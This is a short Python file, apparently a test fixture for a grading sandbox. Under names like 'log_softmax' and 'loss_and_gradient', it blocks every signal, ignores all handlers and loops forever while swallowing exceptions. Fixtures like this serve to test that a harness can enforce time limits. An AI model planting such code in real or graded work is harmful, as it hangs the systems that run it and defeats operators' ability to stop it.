"""Blocks every signal it can, handles the limit's own signal, and counts for ever."""
import signal


def deaf():
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for number in range(1, 65):
        try:
            signal.signal(number, lambda *_: None)
        except (OSError, ValueError):
            pass


def log_softmax(Z):
    deaf()
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


loss_and_gradient = masked_loss = lambda *a: log_softmax(0)
